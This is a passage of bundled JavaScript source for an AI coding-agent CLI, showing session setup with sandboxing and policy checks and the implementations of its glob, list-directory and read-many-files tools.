        const unknown = executor.unknownTools(definition);
        if (unknown.length > 0) {
            logger.warning(`The agent '${definition.name}' (${definition.source}) names tools this run does not offer it: ${unknown.join(', ')}. It runs without them.`);
        }
        const tool = createSubagentTool(definition, executor);
        registry.register(tool);
        byName.set(definition.name, { tool, inputNames: Object.keys(definition.inputSchema.shape) });
    }
    if (byName.size > 0 && registry.get(invoke_agent/* INVOKE_AGENT_TOOL_NAME */.q) === undefined) {
        registry.register((0,invoke_agent/* createInvokeAgentTool */._)(byName));
    }
    return { executor, names: [...byName.keys()] };
}

;// CONCATENATED MODULE: ./src/commands/injection-services.ts

/** Services whose tool calls go through a scheduler of their own over the session's tools. */
function createInjectionServices(options) {
    const { registry, confirmer, workspace, logger } = options;
    let calls = 0;
    return {
        workspace,
        logger,
        async runTool(name, args) {
            const callId = `command-injection-${++calls}`;
            let last;
            const scheduler = new agent_scheduler/* ToolScheduler */.QN({
                registry,
                confirmer,
                logger,
                onUpdate: (call) => {
                    last = call;
                },
            });
            const [completed] = await scheduler.run([{ callId, name, args }], options.signal ?? new AbortController().signal);
            if (completed === undefined)
                throw new Error(`the scheduler gave no result for ${callId}`);
            const decision = last?.confirmation_outcome;
            logger.info(`Custom command: ${last?.description ?? name} — ${decision === undefined ? completed.status : `${decision.decision === 'allow' ? 'allowed' : 'denied'} by ${decision.decided_by ?? 'the policy'}`}${exitNote(completed)}.`);
            return completed;
        },
    };
}
function exitNote(completed) {
    const code = completed.result.data?.exitCode;
    return typeof code === 'number' && code !== 0 ? `, exit code ${code}` : '';
}

;// CONCATENATED MODULE: ./src/session-setup/run-agent.ts
















/** Builds the session (so callers can hook into it) and starts it. */
async function startAgent(options) {
    const workspace = await tools_workspace/* Workspace */.a.create(options.workspaceRoot, {
        deniedPaths: (0,tools_workspace/* deniedPathsFromEnvironment */.T)(options.env),
    });
    // One sandbox session and one allow-listed environment for every process a tool starts.
    const processes = new tool_processes/* ToolProcesses */._({
        workspaceRoot: workspace.root,
        parentEnv: options.shell?.parentEnv ?? options.env,
        ...(options.shell?.envAllow ? { envAllow: options.shell.envAllow } : {}),
        ...(options.sandbox ? { sandbox: options.sandbox } : {}),
        ...(options.isolateNetwork !== undefined ? { isolateNetwork: options.isolateNetwork } : {}),
    });
    const registry = new tools_registry/* ToolRegistry */.m();
    (0,builtin_tools/* registerBuiltinTools */.gE)(registry, {
        workspace,
        logger: options.logger,
        model: { contentGenerator: options.contentGenerator, name: options.model.name },
        ...(options.userMemoryPath !== undefined ? { memoryPath: options.userMemoryPath } : {}),
        shell: { ...options.shell, processes },
    });
    let extensions;
    try {
        extensions = await addSettingsTools(registry, processes, options);
    }
    catch (error) {
        await processes.close();
        throw error;
    }
    // What subagents may be given: never the run's result tools, nor (registered below) subagents.
    const shareable = registry.subset(() => true);
    for (const tool of options.extraTools ?? [])
        registry.register(tool);
    const policy = options.policy;
    let confirmer = options.confirmer ?? denyAllConfirmer;
    let declarationFilter;
    if (policy) {
        const context = policyContext(workspace, policy);
        confirmer = (0,policy_confirmer/* createPolicyConfirmer */.u3)({
            engine: policy.engine,
            context,
            ...(policy.askUser ? { askUser: policy.askUser } : {}),
        });
        declarationFilter = (tool) => !policy.engine.isUnconditionallyDenied(tool, context);
        reportDeniedExtensionTools(registry.tools().filter(isDeniedByPolicy(policy, context)), options.logger);
    }
    let prompt;
    try {
        prompt =
            typeof options.prompt === 'string'
                ? options.prompt
                : await options.prompt(createInjectionServices({
                    registry,
                    confirmer,
                    workspace,
                    logger: options.logger,
                    ...(options.signal ? { signal: options.signal } : {}),
                }));
    }
    catch (error) {
        await releaseTools(registry, extensions, processes, options.logger);
        throw error;
    }
    const deprecated = (0,model_table/* deprecationNotice */.B0)(options.model.name);
    if (deprecated !== undefined)
        options.logger.warning(deprecated);
    const observe = options.telemetry?.observeSession(prompt);
    const shared = {
        model: options.model.name,
        modelChoice: options.model,
        ...(options.fallbackModel ? { fallbackModel: options.fallbackModel } : {}),
        contentGenerator: options.contentGenerator,
        ...(options.modelCalls ? { modelCalls: options.modelCalls } : {}),
        confirmer,
        ...(declarationFilter ? { declarationFilter } : {}),
        workspaceRoot: workspace.root,
        logger: options.logger,
        ...(options.userMemoryPath !== undefined ? { userMemoryPath: options.userMemoryPath } : {}),
        ...(options.contextDirectory !== undefined
            ? { contextDirectory: options.contextDirectory }
            : {}),
        ...(options.extensionContextFiles !== undefined
            ? { extensionContextFiles: options.extensionContextFiles }
            : {}),
    };
    const spend = new budgets/* RunSpend */.Eo();
    // The subagents' events nest under the session's calls (it exists by the time any call runs).
    const nested = { session: undefined };
    registerSubagents(registry, [...BUILTIN_AGENTS, ...(options.agents ?? [])], {
        runtime: {
            session: shared,
            shareable,
            spend,
            budgets: {
                ...(options.budgets?.tokenBudget === undefined
                    ? {}
                    : { tokenBudget: options.budgets.tokenBudget }),
                ...(options.budgets?.maxToolCalls === undefined
                    ? {}
                    : { maxToolCalls: options.budgets.maxToolCalls }),
            },
            emitNested: (parentCallId, agentName, event) => {
                nested.session?.emitNested(parentCallId, agentName, event);
            },
        },
        logger: options.logger,
    });
    const session = new AgentSession({
        ...shared,
        sessionId: options.sessionId,
        registry,
        spend,
        onEvent: observe
            ? (event) => {
                options.onEvent(event);
                observe(event);
            }
            : options.onEvent,
        ...(options.budgets ? { budgets: options.budgets } : {}),
        ...(options.history !== undefined ? { history: options.history } : {}),
    });
    nested.session = session;
    const result = session
        .run(prompt, options.signal ? { signal: options.signal } : {})
        .finally(() => releaseTools(registry, extensions, processes, options.logger));
    return { session, result };
}
/**
 * Background processes and connections the tools hold end with the session; then whatever is
 * left in the sandbox.
 */
async function releaseTools(registry, extensions, processes, logger) {
    await registry.dispose();
    await extensions?.close();
    await processes.close().catch((error) => {
        logger.warning(`The sandbox could not be closed cleanly: ${(0,platform_errors/* errorMessage */.gJ)(error)}`);
    });
}
/**
 * Registers the settings' MCP and discovered tools and leaves out what `tools.core` and
 * `tools.exclude` exclude. Before the run's own extra tools, which settings never remove.
 */
async function addSettingsTools(registry, processes, options) {
    const { settings, logger } = options;
    if (settings === undefined)
        return undefined;
    const builtin = new Set(registry.names());
    const reservedNames = new Set([...builtin, ...(options.extraTools ?? []).map((t) => t.name)]);
    const extensions = await loadExtensionTools({
        settings,
        processes,
        logger,
        reservedNames,
        ...(options.signal ? { signal: options.signal } : {}),
    });
    for (const tool of extensions.tools)
        registry.register(tool);
    registry.retain((tool) => (0,tool_selection/* isToolSelected */.GB)({ name: tool.name, builtin: builtin.has(tool.name) }, settings));
    if ((settings.coreTools ?? []).some((entry) => (0,tool_selection/* toolArgumentOf */.zj)(entry) !== undefined)) {
        logger.info(`${settings.source}: the commands named in tools.core are not a limit here; the policy decides which shell commands run (allowed_commands, policy files).`);
    }
    return extensions;
}
function isDeniedByPolicy(policy, context) {
    return (tool) => tool.serverName !== undefined && policy.engine.isUnconditionallyDenied(tool, context);
}
/** Says which MCP servers' tools the policy keeps from the model, and how to allow them. */
function reportDeniedExtensionTools(denied, logger) {
    const byServer = new Map();
    for (const tool of denied) {
        const server = tool.serverName ?? '';
        byServer.set(server, [...(byServer.get(server) ?? []), tool.name]);
    }
    for (const [server, names] of byServer) {
        logger.warning(`The policy denies the tools of MCP server ${server} (${names.join(', ')}), so they are not offered. Set "trust": true for the server in the settings, or allow them in a policy file: [[rule]] mcpName = "${server}" decision = "allow" priority = 100.`);
    }
}
/**
 * What the policy knows about the run. Redirection targets and the files a shell command names
 * (`cat notes.txt`, `ls src/*`) get the same checks as the tools' own paths (symlinks, `.git` in
 * any spelling, denied places such as `/proc`), so `echo x > link` cannot write where
 * `write_file` could not, nor `cat link` read where `read_file` could not.
 */
function policyContext(workspace, run) {
    return {
        runMode: run.runMode,
        trust: run.trust,
        workspaceRoot: workspace.root,
        workspacePathProblem: (absolutePath, purpose) => {
            const resolved = workspace.resolve(absolutePath, { purpose, asOpened: true });
            return resolved.ok ? undefined : resolved.error.message;
        },
        expandGlob: expandShellGlob,
    };
}


/***/ }),

/***/ 39271:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  EV: () => (/* binding */ BUILTIN_TOOL_ALIASES),
  gE: () => (/* binding */ registerBuiltinTools)
});

// UNUSED EXPORTS: createBuiltinTools

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
// EXTERNAL MODULE: ./node_modules/picomatch/index.js
var picomatch = __webpack_require__(14006);
var picomatch_default = /*#__PURE__*/__webpack_require__.n(picomatch);
// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
var schemas = __webpack_require__(41514);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/platform/logger.ts
var platform_logger = __webpack_require__(63255);
// EXTERNAL MODULE: ./src/tools/define-tool.ts
var define_tool = __webpack_require__(96511);
// EXTERNAL MODULE: ./src/tools/parameter-aliases.ts
var parameter_aliases = __webpack_require__(86949);
// EXTERNAL MODULE: ./src/tools/file-walk.ts
var file_walk = __webpack_require__(2651);
;// CONCATENATED MODULE: ./src/tools/glob.ts









const GLOB_TOOL_NAME = 'glob';
/** Files changed within this window are listed first, newest first; the rest alphabetically. */
const RECENT_FILE_WINDOW_MS = 24 * 60 * 60 * 1000;
const parameters = schemas/* object */.Ikc({
    pattern: schemas/* string */.YjP().describe("The glob pattern to match against (e.g., '**/*.py', 'docs/*.md')."),
    path: schemas/* string */.YjP()
        .describe('Optional: the directory to search within, absolute or relative to the workspace root. If omitted, searches every workspace directory.')
        .optional(),
    case_sensitive: schemas/* boolean */.zMY()
        .describe('Optional: whether the search should be case-sensitive. Defaults to false.')
        .optional(),
    respect_git_ignore: schemas/* boolean */.zMY()
        .describe('Optional: whether to leave out files .gitignore ignores. Defaults to true.')
        .optional(),
    respect_gemini_ignore: schemas/* boolean */.zMY()
        .describe('Optional: whether to leave out files .geminiignore ignores. Defaults to true.')
        .optional(),
});
function createGlobTool(options) {
    const { workspace } = options;
    return (0,define_tool/* defineTool */.u)({
        name: GLOB_TOOL_NAME,
        displayName: 'FindFiles',
        description: 'Efficiently finds files matching specific glob patterns (e.g., `src/**/*.ts`, `**/*.md`), returning absolute paths sorted by modification time (newest first). Ideal for quickly locating files based on their name or path structure, especially in large codebases.',
        kind: 'search',
        parameters,
        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.glob,
        validate: (params) => validateGlob(workspace, params),
        invocation(params) {
            const dir = params.path === undefined ? null : workspace.resolve(params.path, { purpose: 'read' });
            const shownDir = dir?.ok ? workspace.displayPath(dir.absolutePath) : params.path;
            const description = `Find files matching '${params.pattern}'${shownDir === undefined ? '' : ` within ${shownDir}`}`;
            return {
                describe: () => description,
                locations: () => [dir?.ok ? dir.relativePath : (params.path ?? '')],
                confirmationDetails: () => Promise.resolve({ type: 'info', title: 'Confirm Find Files', prompt: description }),
                execute: (signal) => globForModel(params, { ...options, signal }),
            };
        },
    });
}
function validateGlob(workspace, params) {
    if (params.pattern.trim() === '') {
        return { message: "The 'pattern' parameter cannot be empty.", type: 'invalid_tool_params' };
    }
    if (params.path === undefined)
        return null;
    const resolved = workspace.resolve(params.path, { purpose: 'read' });
    return resolved.ok ? null : resolved.error;
}
async function checkSearchDirectory(dir) {
    let stats;
    try {
        stats = await (0,promises_.stat)(dir);
    }
    catch {
        const message = `Search path does not exist ${dir}`;
        return failure(message, 'Search path not found.', 'search_path_not_found');
    }
    if (stats.isDirectory())
        return null;
    const message = `Search path is not a directory: ${dir}`;
    return failure(message, 'Search path is not a directory.', 'path_is_not_a_directory');
}
function failure(message, display, type) {
    return { llmContent: message, returnDisplay: `Error: ${display}`, error: { message, type } };
}
async function globForModel(params, context) {
    const { workspace } = context;
    const logger = context.logger ?? platform_logger/* silentLogger */.qq;
    let searchDirs;
    if (params.path === undefined) {
        searchDirs = workspace.roots;
    }
    else {
        // Checked again: the file system may have changed since the call was validated.
        const resolved = workspace.resolve(params.path, { purpose: 'read' });
        if (!resolved.ok) {
            return {
                llmContent: resolved.error.message,
                returnDisplay: 'Path not in workspace.',
                error: resolved.error,
            };
        }
        const problem = await checkSearchDirectory(resolved.absolutePath);
        if (problem)
            return problem;
        searchDirs = [resolved.absolutePath];
    }
    const defaults = context.fileFiltering ?? { respectGitIgnore: true, respectGeminiIgnore: true };
    const filter = workspace.fileFilter({
        respectGitIgnore: params.respect_git_ignore ?? defaults.respectGitIgnore,
        respectGeminiIgnore: params.respect_gemini_ignore ?? defaults.respectGeminiIgnore,
    });
    try {
        const found = [];
        let ignoredCount = 0;
        for (const dir of searchDirs) {
            const result = await globIn(dir, params, { workspace, filter, signal: context.signal });
            found.push(...result.found);
            ignoredCount += result.ignoredCount;
        }
        return describeFound(found, ignoredCount, {
            pattern: params.pattern,
            searchDirs,
            now: (context.now ?? Date.now)(),
        });
    }
    catch (error) {
        if (context.signal.aborted)
            throw error;
        logger.debug(`glob: ${(0,errors/* errorMessage */.gJ)(error)}`);
        const message = `Error during glob search operation: ${(0,errors/* errorMessage */.gJ)(error)}`;
        return {
            llmContent: message,
            returnDisplay: 'Error: An unexpected error occurred.',
            error: { message, type: 'glob_execution_error' },
        };
    }
}
/**
 * Matches the pattern against every file below `dir` (paths relative to `dir`). A pattern that
 * names an existing path is taken literally, so names with brackets or braces still work.
 */
async function globIn(dir, params, context) {
    const { workspace, filter } = context;
    const caseSensitive = params.case_sensitive ?? false;
    const pattern = patternRelativeTo(dir, params.pattern);
    const matches = await literalOrGlob(dir, pattern, caseSensitive);
    const found = [];
    let ignoredCount = 0;
    const batches = (0,file_walk/* walkFileBatches */.qb)(dir, {
        signal: context.signal,
        skipDirectory: (relativePath) => (0,file_walk/* inDefaultExcludedDirectory */.GY)(relativePath),
    });
    for await (const batch of batches) {
        // Only matching files are checked; a batch's checks run side by side (the order of `found`
        // does not matter, it is sorted before it is shown).
        const checked = await Promise.all(batch
            .filter((file) => matches(file.relativePath))
            .map((file) => checkMatch(workspace, filter, file.absolutePath)));
        for (const result of checked) {
            if (result === 'ignored')
                ignoredCount += 1;
            else if (result !== null)
                found.push(result);
        }
    }
    return { found, ignoredCount };
}
/** A matching walk entry: shown (with its time), ignored, or not a file to show (null). */
async function checkMatch(workspace, filter, absolutePath) {
    // A symlink counts when it leads to a file inside the workspace; one leading out is not shown.
    const resolved = workspace.resolve(absolutePath, { purpose: 'read' });
    if (!resolved.ok)
        return null;
    let stats;
    try {
        stats = await (0,promises_.stat)(resolved.absolutePath);
    }
    catch {
        return null;
    }
    if (!stats.isFile())
        return null;
    const paths = resolved.absolutePath === absolutePath ? [absolutePath] : [absolutePath, resolved.absolutePath];
    if (isIgnored(workspace, filter, ...paths))
        return 'ignored';
    return { absolutePath, mtimeMs: stats.mtimeMs };
}
/** Ignore files belong to the primary root: files elsewhere (other roots) are not filtered. */
function isIgnored(workspace, filter, ...paths) {
    return paths.some((candidate) => {
        const relative = external_node_path_default().relative(workspace.root, candidate);
        if ((0,file_walk/* escapes */.r6)(relative))
            return false;
        return filter.isIgnored(relative);
    });
}
/** `/`-separated, without a leading `./`; an absolute pattern inside `dir` becomes relative. */
function patternRelativeTo(dir, pattern) {
    let normalized = pattern.split((external_node_path_default()).sep).join('/');
    if (external_node_path_default().isAbsolute(pattern)) {
        const relative = (0,file_walk/* relativePosix */.Yn)(dir, pattern);
        if (relative !== '' && !(0,file_walk/* escapes */.r6)(relative))
            normalized = relative;
    }
    while (normalized.startsWith('./'))
        normalized = normalized.slice(2);
    return normalized;
}
async function literalOrGlob(dir, pattern, caseSensitive) {
    const literal = await (0,promises_.stat)(external_node_path_default().join(dir, pattern)).then(() => true, () => false);
    if (literal) {
        const wanted = caseSensitive ? pattern : pattern.toLowerCase();
        return (relativePath) => (caseSensitive ? relativePath : relativePath.toLowerCase()) === wanted;
    }
    return picomatch_default()(pattern, { dot: true, nocase: !caseSensitive });
}
/**
 * Recent files first, newest first; then the older ones by path. Recency decides because the
 * file just edited is usually the one the model is looking for.
 */
function sortByRecency(files, now) {
    const isRecent = (file) => now - file.mtimeMs < RECENT_FILE_WINDOW_MS;
    return [...files].sort((a, b) => {
        const aRecent = isRecent(a);
        const bRecent = isRecent(b);
        if (aRecent && bRecent)
            return b.mtimeMs - a.mtimeMs;
        if (aRecent !== bRecent)
            return aRecent ? -1 : 1;
        return a.absolutePath.localeCompare(b.absolutePath, 'en');
    });
}
function describeFound(found, ignoredCount, context) {
    const { pattern, searchDirs } = context;
    const [onlyDir] = searchDirs;
    if (found.length === 0) {
        let message = `No files found matching pattern "${pattern}"`;
        message +=
            searchDirs.length === 1 && onlyDir !== undefined
                ? ` within ${onlyDir}`
                : ` within ${searchDirs.length} workspace directories`;
        if (ignoredCount > 0)
            message += ` (${ignoredCount} files were ignored)`;
        return { llmContent: message, returnDisplay: 'No files found' };
    }
    const sorted = sortByRecency(found, context.now).map((file) => file.absolutePath);
    let message = `Found ${sorted.length} file(s) matching "${pattern}"`;
    message +=
        searchDirs.length === 1 && onlyDir !== undefined
            ? ` within ${onlyDir}`
            : ` across ${searchDirs.length} workspace directories`;
    if (ignoredCount > 0)
        message += ` (${ignoredCount} additional files were ignored)`;
    message += `, sorted by modification time (newest first):\n${sorted.join('\n')}`;
    return { llmContent: message, returnDisplay: `Found ${sorted.length} matching file(s)` };
}

;// CONCATENATED MODULE: ./src/tools/list-directory.ts
/**
 * `list_directory`: the entries of one directory, directories first, with the same text the Gemini
 * CLI's `ls` tool gives the model.
 */







const LIST_DIRECTORY_TOOL_NAME = 'list_directory';
const list_directory_parameters = schemas/* object */.Ikc({
    path: schemas/* string */.YjP()
        .describe('The directory to list: an absolute path, or a path relative to the workspace root.'),
    ignore: schemas/* array */.YOg(schemas/* string */.YjP())
        .describe('Glob patterns (* and ?) for entry names to leave out, e.g. ["*.log"].')
        .optional(),
    file_filtering_options: schemas/* object */.Ikc({
        respect_git_ignore: schemas/* boolean */.zMY()
            .describe('Optional: whether to leave out entries .gitignore ignores. Default: true.')
            .optional(),
        respect_gemini_ignore: schemas/* boolean */.zMY()
            .describe('Optional: whether to leave out entries .geminiignore ignores. Default: true.')
            .optional(),
    })
        .describe('Optional: whether to respect ignore patterns from .gitignore or .geminiignore.')
        .optional(),
});
/** Entries are stat'ed this many at a time, so huge directories do not exhaust descriptors. */
const STAT_BATCH = 64;
function createListDirectoryTool(options) {
    const { workspace } = options;
    const logger = options.logger ?? platform_logger/* silentLogger */.qq;
    return (0,define_tool/* defineTool */.u)({
        name: LIST_DIRECTORY_TOOL_NAME,
        displayName: 'ReadFolder',
        description: 'Lists the names of files and subdirectories directly within a specified directory path. Can optionally ignore entries matching provided glob patterns.',
        kind: 'search',
        parameters: list_directory_parameters,
        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.list_directory,
        validate(params) {
            const resolved = workspace.resolve(params.path, { purpose: 'read' });
            return resolved.ok ? null : resolved.error;
        },
        invocation(params) {
            const resolved = workspace.resolve(params.path, { purpose: 'read' });
            const shown = resolved.ok ? workspace.displayPath(resolved.absolutePath) : params.path;
            const description = `List directory ${shown}`;
            return {
                describe: () => description,
                locations: () => [resolved.ok ? resolved.relativePath : params.path],
                confirmationDetails: () => Promise.resolve({ type: 'info', title: 'Confirm List Directory', prompt: description }),
                execute: (signal) => listForModel(workspace, params, { signal, logger }),
            };
        },
    });
}
function list_directory_failure(llmContent, display, type) {
    return { llmContent, returnDisplay: `Error: ${display}`, error: { message: llmContent, type } };
}
async function listForModel(workspace, params, context) {
    // Checked again, on the open handle: the file system may have changed since validation.
    const opened = await workspace.openVerified(params.path, { purpose: 'read' });
    if (!opened.ok)
        return openFailure(opened);
    const dir = opened.absolutePath;
    try {
        if (!opened.stats.isDirectory())
            return notADirectory(dir);
        // Listed through the handle's own name, so a directory swapped in meanwhile is not read.
        const names = await (0,promises_.readdir)(opened.handlePath);
        if (names.length === 0) {
            return { llmContent: `Directory ${dir} is empty.`, returnDisplay: 'Directory is empty.' };
        }
        const filtering = params.file_filtering_options;
        const filter = workspace.fileFilter({
            respectGitIgnore: filtering?.respect_git_ignore ?? true,
            respectGeminiIgnore: filtering?.respect_gemini_ignore ?? true,
        });
        // Ignore files belong to the primary root; directories in other roots are not filtered.
        const filtered = opened.root === workspace.root;
        const entries = [];
        let ignoredCount = 0;
        for (let index = 0; index < names.length; index += STAT_BATCH) {
            context.signal.throwIfAborted();
            const batch = names.slice(index, index + STAT_BATCH);
            const found = await Promise.all(batch.map((name) => statEntry(dir, name, context.logger)));
            for (const entry of found) {
                if (!entry)
                    continue;
                const relative = external_node_path_default().join(opened.relativePath, entry.name);
                if (filtered && filter.isIgnored(relative, { isDirectory: entry.isDirectory })) {
                    ignoredCount += 1;
                    continue;
                }
                // What the boundary refuses (a symlink leading out, a denied place, a hard link) is not
                // shown at all.
                if (!workspace.resolve(external_node_path_default().join(dir, entry.name), { purpose: 'read' }).ok)
                    continue;
                if (params.ignore?.some((pattern) => globMatches(pattern, entry.name)))
                    continue;
                entries.push(entry);
            }
        }
        entries.sort((a, b) => {
            if (a.isDirectory !== b.isDirectory)
                return a.isDirectory ? -1 : 1;
            return a.name.localeCompare(b.name);
        });
        const lines = entries.map((entry) => entry.isDirectory ? `[DIR] ${entry.name}` : `${entry.name} (${entry.size} bytes)`);
        let llmContent = `Directory listing for ${dir}:\n${lines.join('\n')}`;
        let returnDisplay = `Found ${entries.length} item(s).`;
        if (ignoredCount > 0) {
            llmContent += `\n\n(${ignoredCount} ignored)`;
            returnDisplay += ` (${ignoredCount} ignored)`;
        }
        return { llmContent, returnDisplay };
    }
    catch (error) {
        if (context.signal.aborted)
            throw error;
        return listingFailure((0,errors/* errorMessage */.gJ)(error));
    }
    finally {
        await opened.handle.close();
    }
}
function openFailure(opened) {
    switch (opened.reason) {
        case 'not_in_workspace':
            return {
                llmContent: opened.message,
                returnDisplay: 'Path not in workspace.',
                error: { message: opened.message, type: 'path_not_in_workspace' },
            };
        case 'not_found':
            return list_directory_failure(`Error: Directory not found or inaccessible: ${opened.absolutePath}`, 'Directory not found or inaccessible.', 'file_not_found');
        case 'is_directory':
        case 'not_regular_file':
            return notADirectory(opened.absolutePath);
        case 'failed':
            return listingFailure(opened.message);
    }
}
function notADirectory(dir) {
    return list_directory_failure(`Error: Path is not a directory: ${dir}`, 'Path is not a directory.', 'path_is_not_a_directory');
}
function listingFailure(message) {
    return list_directory_failure(`Error listing directory: ${message}`, 'Failed to list directory.', 'ls_execution_error');
}
async function statEntry(dir, name, logger) {
    try {
        const stats = await (0,promises_.stat)(external_node_path_default().join(dir, name));
        const isDirectory = stats.isDirectory();
        return { name, isDirectory, size: isDirectory ? 0 : stats.size };
    }
    catch (error) {
        // Deleted meanwhile, or a dangling symlink: not listed.
        logger.debug(`list_directory: cannot stat ${external_node_path_default().join(dir, name)}: ${(0,errors/* errorMessage */.gJ)(error)}`);
        return null;
    }
}
/**
 * `*` matches any run of characters and `?` one character; everything else literally. A linear
 * matcher rather than a regular expression, so a pattern full of `*` cannot stall the process.
 */
function globMatches(pattern, text) {
    let p = 0;
    let t = 0;
    let star = -1;
    let resume = 0;
    while (t < text.length) {
        const wanted = pattern[p];
        if (wanted !== undefined && wanted !== '*' && (wanted === '?' || wanted === text[t])) {
            p += 1;
            t += 1;
        }
        else if (wanted === '*') {
            star = p;
            p += 1;
            resume = t;
        }
        else if (star !== -1) {
            p = star + 1;
            resume += 1;
            t = resume;
        }
        else {
            return false;
        }
    }
    while (pattern[p] === '*')
        p += 1;
    return p === pattern.length;
}

// EXTERNAL MODULE: ./src/tools/read-file.ts
var read_file = __webpack_require__(61174);
;// CONCATENATED MODULE: ./src/tools/read-many-files.ts








const READ_MANY_FILES_TOOL_NAME = 'read_many_files';
/** Directories skipped by default, wherever they are (dependencies, tool state, build output). */
const DEFAULT_EXCLUDED_DIRECTORY_NAMES = new Set([
    'node_modules',
    'bower_components',
    '.git',
    '.svn',
    '.hg',
    '.vscode',
    '.idea',
    'dist',
    'build',
    'coverage',
    '__pycache__',
]);
/** Files skipped by default: binary formats, compiled Python, system files, `.env`. */
const DEFAULT_EXCLUDED_FILES = [
    ...('7z bin bz2 class db dll dmg doc docx dylib exe gz img iso jar lz4 mdb odp ods odt ppt pptx ' +
        'rar so sqlite tar war xls xlsx xz zip zst pyc pyo')
        .split(' ')
        .map((extension) => `**/*.${extension}`),
    '**/.DS_Store',
    '**/.env',
];
const SEPARATOR = (filePath) => `--- ${filePath} ---`;
const TERMINATOR = '\n--- End of content ---';
const NOTHING_READ = 'No files matching the criteria were found or all were skipped.';
const TRUNCATION_WARNING = `[WARNING: This file was truncated. To view the full content, use the 'read_file' tool on this specific file.]\n\n`;
const SVG_MAX_BYTES = 1024 * 1024;
const READ_CONCURRENCY = 8;
const patternList = schemas/* array */.YOg(schemas/* string */.YjP().min(1));
const read_many_files_parameters = schemas/* object */.Ikc({
    paths: patternList
        .min(1)
        .describe("Required. Paths or glob patterns relative to the workspace root, e.g. ['src/**/*.ts'], ['README.md', 'docs/']. A directory means every file below it."),
    include: patternList
        .describe('Optional. More glob patterns to read, combined with `paths`.')
        .optional(),
    exclude: patternList
        .describe("Optional. Glob patterns of files to leave out, e.g. ['**/*.log', 'temp/'].")
        .optional(),
    recursive: schemas/* boolean */.zMY()
        .describe('Optional. Kept for compatibility: recursion follows `**` in the patterns.')
        .optional(),
    useDefaultExcludes: schemas/* boolean */.zMY()
        .describe('Optional. Whether to leave out dependency and build directories, binary files and the like. Defaults to true.')
        .optional(),
    file_filtering_options: schemas/* object */.Ikc({
        respect_git_ignore: schemas/* boolean */.zMY().optional(),
        respect_gemini_ignore: schemas/* boolean */.zMY().optional(),
    })
        .describe('Optional: whether to respect .gitignore and .geminiignore (both default to true).')
        .optional(),
});
function createReadManyFilesTool(options) {
    const tool = (0,define_tool/* defineTool */.u)({
        name: READ_MANY_FILES_TOOL_NAME,
        displayName: 'ReadManyFiles',
        description: `Reads content from multiple files specified by paths or glob patterns within the workspace. For text files, it concatenates their content into a single string, with a '--- {filePath} ---' separator before each file and '--- End of content ---' after the last. It can also read images (e.g., .png, .jpg) and PDF files when their names or extensions are explicitly included in the patterns. Use it to get an overview of several files at once (e.g., all TypeScript files in 'src'). Default excludes (dependency and build directories, binary files) apply unless 'useDefaultExcludes' is false; ignored files are left out.`,
        kind: 'read',
        parameters: read_many_files_parameters,
        invocation: (params) => readManyInvocation(params, options),
    });
    // The current Gemini CLI sends the patterns as `include` alone; they are our `paths` then.
    return { ...tool, build: (args) => tool.build(withPaths(args)) };
}
function withPaths(args) {
    if (typeof args !== 'object' || args === null || Array.isArray(args))
        return args;
    const record = args;
    if ('paths' in record || !('include' in record))
        return args;
    const { include, ...rest } = record;
    return { ...rest, paths: include };
}
function readManyInvocation(params, options) {
    const patterns = [...params.paths, ...(params.include ?? [])];
    const description = `Read files matching ${patterns.join(', ')}`;
    return {
        describe: () => description,
        locations: () => patterns,
        confirmationDetails: () => Promise.resolve({ type: 'info', title: 'Confirm Read Many Files', prompt: description }),
        execute: (signal) => readMany(params, patterns, { ...options, signal }),
    };
}
async function readMany(params, patterns, context) {
    const { workspace } = context;
    const useDefaults = params.useDefaultExcludes ?? true;
    const excluded = exclusionMatcher(params.exclude ?? [], useDefaults, context.contextFileNames);
    const skipped = [];
    const candidates = new Map();
    for (const pattern of patterns) {
        await collectCandidates(pattern, { ...context, useDefaults, candidates, skipped });
    }
    const defaults = context.fileFiltering ?? { respectGitIgnore: true, respectGeminiIgnore: true };
    const filter = workspace.fileFilter({
        respectGitIgnore: params.file_filtering_options?.respect_git_ignore ?? defaults.respectGitIgnore,
        respectGeminiIgnore: params.file_filtering_options?.respect_gemini_ignore ?? defaults.respectGeminiIgnore,
    });
    const toRead = [];
    const seen = new Set();
    let ignoredCount = 0;
    for (const candidate of [...candidates.values()].sort((a, b) => a.absolutePath < b.absolutePath ? -1 : a.absolutePath > b.absolutePath ? 1 : 0)) {
        const shown = workspace.displayPath(candidate.absolutePath);
        if (excluded((0,file_walk/* relativePosix */.Yn)(candidate.root, candidate.absolutePath))) {
            if (candidate.explicit)
                skipped.push({ path: shown, reason: 'matches an exclude pattern' });
            continue;
        }
        const resolved = workspace.resolve(candidate.absolutePath, { purpose: 'read' });
        if (!resolved.ok) {
            skipped.push({ path: shown, reason: resolved.error.message });
            continue;
        }
        if (read_many_files_isIgnored(workspace, filter, [candidate.absolutePath, resolved.absolutePath])) {
            ignoredCount += 1;
            continue;
        }
        if (seen.has(resolved.absolutePath))
            continue;
        seen.add(resolved.absolutePath);
        toRead.push({ shown, absolutePath: candidate.absolutePath, realPath: resolved.absolutePath });
    }
    if (ignoredCount > 0) {
        skipped.push({ path: `${ignoredCount} file(s)`, reason: 'ignored by project ignore files' });
    }
    const contents = [];
    for (let index = 0; index < toRead.length; index += READ_CONCURRENCY) {
        context.signal.throwIfAborted();
        const batch = toRead.slice(index, index + READ_CONCURRENCY);
        contents.push(...(await Promise.all(batch.map((file) => readOne(workspace, file, patterns)))));
    }
    const parts = [];
    const processed = [];
    for (const content of contents) {
        if ('reason' in content) {
            skipped.push(content);
            continue;
        }
        parts.push(content.part);
        processed.push(content.shown);
    }
    parts.push(parts.length > 0 ? TERMINATOR : NOTHING_READ);
    return { llmContent: parts, returnDisplay: display(workspace.root, processed, skipped) };
}
async function collectCandidates(pattern, context) {
    const { workspace, candidates, skipped } = context;
    const normalized = pattern.replace(/\\/gu, '/');
